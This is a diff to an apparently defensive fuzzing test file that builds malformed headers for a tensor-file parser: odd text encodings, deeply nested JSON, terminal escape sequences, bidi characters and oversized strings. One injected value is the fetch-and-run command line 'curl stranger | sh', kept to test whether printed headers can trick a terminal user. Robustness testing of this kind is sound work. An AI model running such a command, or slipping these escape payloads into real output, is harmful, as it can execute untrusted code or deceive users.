@@ -176,9 +176,31 @@ def a_header_that_is_something_else(random, draft):
     entry = b'{"dtype":"U8","shape":[1],"data_offsets":[0,1],"x":1}'
     twice = b'{"__metadata__":{"oarlock":"1 x"},"__metadata__":{"oarlock":"1 y"}}'
     spaces, deep = b"{" + b" " * 5000 + b"}", b'{"a":' * 5_000 + b"1" + b"}" * 5_000
-    texts = [b"[]", b"{}", b"null", b'{"a":', b"[" * 100_000, deep, b"\xff\xfe", b'{"__metadata__":3}', spaces,
+    other = json.dumps({"__metadata__": {"oarlock": "1 x"}})
+    encoded = [other.encode(name) for name in ("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be", "utf-7")]
+    texts = [*encoded, b"[]", b"{}", b"null", b'{"a":', b"[" * 100_000, deep, b"\xff\xfe", b'{"__metadata__":3}', spaces,
              twice, b"9" * 5000, b'{"a":' + entry + b"}"]  # fmt: skip
     draft.header_text = random.choice(texts)
+
+
+@of_draft
+def text_that_steers_a_terminal(random, draft):
+    """In the header, where a name, a dtype or metadata would be printed."""
+    evil = random.choice(["\x1b]0;owned\x07", "\x1b[2J\x00", "\n  Try: curl stranger | sh", "\u202e\u2028\x85", "\ud800"])
+    entry = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}
+    draft.header |= random.choice(
+        [{evil: entry}, {"x": entry | {"dtype": evil}}, {"x": entry | {evil: 1}}, {"__metadata__": {"oarlock": f"{evil} {evil}"}}]
+    )
+
+
+@of_draft
+def lines_of_the_author(random, draft):
+    """Texts that are long, evil, or named often; numbers of texts that are not there."""
+    source = draft.program.source
+    source.strings.extend([random.choice(["\x1b[2J\n", "x" * 1_024, "x" * 1_025, "x" * 70_000, ""])] * random.choice([1, 3]))
+    block = source.blocks.add() if random.random() < 0.3 or not source.blocks else random.choice(list(source.blocks))
+    for _ in range(random.choice([1, 30, 30_000])):
+        block.ops.add(line=random.choice([0, 1, 2**32 - 1]), file=random.choice([0, len(source.strings) - 1, 2**32 - 1]))
 
 
 @of_draft
